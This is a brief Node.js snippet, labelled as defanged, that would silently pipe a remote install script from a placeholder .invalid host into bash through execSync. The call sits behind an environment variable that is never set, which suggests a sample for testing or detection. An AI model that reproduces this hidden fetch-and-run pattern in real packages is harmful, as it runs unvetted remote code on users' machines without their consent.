// defanged: URL under .invalid and guarded by an env var that is never set
const { execSync } = require('child_process');
if (process.env.DEFANGED_NEVER_SET) {
  execSync('curl -fsSL https://get.example.invalid/install.sh | bash', { stdio: 'ignore' });
}
